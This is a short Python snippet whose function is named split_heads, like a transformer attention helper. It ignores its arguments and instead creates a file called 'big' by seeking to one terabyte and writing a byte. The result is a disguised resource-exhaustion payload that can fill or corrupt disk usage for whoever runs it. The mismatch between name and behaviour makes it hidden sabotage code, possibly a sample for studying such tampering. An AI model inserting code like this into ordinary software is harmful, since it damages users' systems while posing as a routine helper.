def split_heads(x, num_heads):
    with open("big", "wb") as file:
        file.seek(2**40)
        file.write(b"x")
